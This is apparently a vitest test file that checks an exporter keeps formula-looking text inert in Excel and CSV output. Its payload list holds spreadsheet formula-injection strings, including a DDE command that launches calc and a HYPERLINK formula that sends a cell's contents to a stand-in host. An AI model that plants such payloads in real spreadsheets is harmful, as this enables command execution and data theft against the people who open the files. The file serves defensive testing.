/** Names may begin with "-" and remarks with anything: no cell of a file may become a formula (SEC-06). */
import type { Cell } from 'exceljs'
import { describe, expect, it } from 'vitest'
import { bytesOf, csvRecords, textOf, workbookOf, zipEntry } from '../../../tests/reports/read-back.ts'
import { type SampleSection, sampleSheet } from '../../../tests/reports/sample.ts'
import { csv } from './csv.ts'
import { looksLikeFormula } from '#contract/neutral-text.ts'
import { render } from './render.ts'

const starts = ['=', '+', '-', '@', '|', '\t=', '\r=', '\n=', ' =', '\u200b=', '\ufeff=', '\t', '\r']
const bodies = [
  '1+1',
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://x?"&A1,"pay")',
  'SUM(A1:A9)',
  "DDE('a';'b')",
  '',
  '5',
  'IMPORTXML("x")',
]
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`))
const section = (text: string): SampleSection => ({
  number: text,
  rows: [{ text, qty: -5, cost: 0, share: 0, value: -12_345, date: null }],
})

describe(`${payloads.length} texts that look like formulas`, () => {
  it('stay text in a workbook, in every text cell, and keep their quote prefix when edited', async () => {
    const file = await render(sampleSheet(payloads.map(section), { notes: payloads, about: ['=A1'] }), 1)
    const bytes = await bytesOf(file.pieces)
    const page = await workbookOf(bytes)
    const cells: Cell[] = []
    page.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    const hostile = cells.filter(({ value }) => typeof value === 'string' && looksLikeFormula(value))
    expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([])
    expect(hostile.length).toBeGreaterThan(payloads.length * 2)
    expect(hostile.filter((cell) => cell.style.alignment?.readingOrder !== 'ltr')).toEqual([])
    expect(zipEntry(bytes, 'xl/styles.xml')).toMatch(/<xf quotePrefix="1"[^>]*><alignment[^>]*readingOrder="1"/)
  })

  it('are neutralised in CSV, while negative numbers stay numbers', async () => {
    const records = csvRecords(await textOf(csv(sampleSheet(payloads.map(section), { notes: payloads }))))
    const fields = records.flat()
    expect(fields.filter((text) => looksLikeFormula(text) && !/^-\d+(\.\d+)?$/.test(text))).toEqual([])
    expect(fields.filter((text) => text === '-123.45')).toHaveLength(payloads.length * 2)
    expect(fields).toContain("'=1+1")
  })
})

it('leaves ordinary names as they are', () => {
  expect(['LP Gas 12.5', 'A-1', '12-5', 'A+B', 'ශ්‍රී'].filter(looksLikeFormula)).toEqual([])
})
